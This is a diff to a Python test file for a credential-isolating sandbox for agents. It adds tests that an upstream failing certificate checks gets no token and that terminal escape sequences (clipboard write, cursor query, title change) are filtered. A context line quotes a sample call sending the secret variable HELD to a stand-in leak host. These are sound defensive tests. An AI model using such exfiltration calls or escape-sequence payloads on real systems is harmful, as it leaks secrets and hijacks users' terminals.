@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import signal
+import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -169,6 +170,30 @@ found['leak'] = get('https://open.test/leak', data=big + os.environ['HELD'].enco
     assert not [each for each in bottles.upstream.requests if HELD.encode() in each.body]
 
 
+def test_an_upstream_that_can_t_prove_its_name_gets_no_token(bottles: Bottles) -> None:
+    """DN8: whoever answers for a name must hold its certificate; the credential waits for that."""
+    bottles.root.bottle("dev", BOTTLE.replace("host: api.test", "host: other.test"))
+    bottles.reaching_also = ["--resolve", f"other.test={bottles.upstream.address}:{bottles.upstream.port}"]
+    ended = bottles.script("worker", "found['other'] = get('https://other.test/v1/x')")
+    assert ended.answers["other"][0] == 502
+    assert bottles.upstream.requests == []
+
+
+def test_a_terminal_gets_from_the_agent_what_draws_and_no_more(bottles: Bottles) -> None:
+    """LG7, ES10: no clipboard, no title, no question that the terminal would answer."""
+    leader, follower = os.openpty()
+    script = r"printf 'plain \033[31mred\033[0m \033]52;c;YQ==\007\033[6n\033]0;title\007end\n'"
+    done = subprocess.run(
+        bottles.start_argv("worker", ["/bin/sh", "-c", script]),
+        env=bottles.environ(), stdout=follower, stderr=subprocess.PIPE, timeout=40, check=False,
+    )  # fmt: skip
+    os.close(follower)
+    assert done.returncode == 0, done.stderr
+    shown = os.read(leader, 4096)
+    os.close(leader)
+    assert shown == b"plain \x1b[31mred\x1b[0m end\r\n"
+
+
 def test_events_come_one_by_one_and_web_sockets_are_judged(bottles: Bottles) -> None:
     """DL11, DL12, PX26: an event isn't held back for the next; a value in two messages is seen; echoes are masked."""
     ended = bottles.script(
@@ -205,8 +230,6 @@ def test_a_killed_launcher_leaves_no_process_and_no_credential(bottles: Bottles,
         identity = json.loads(bottles.command("list", "--json").stdout)["bottles"][0]["identity"]
         assert processes_with(b"--hostname\0bundle")
     else:
-        import subprocess
-
         argv = bottles.start_argv("worker", ["/bin/sleep", "600"])
         launcher = subprocess.Popen(argv, env=bottles.environ(), stdout=-1, stderr=-1, text=True)
         state = bottles.root.path / "state"
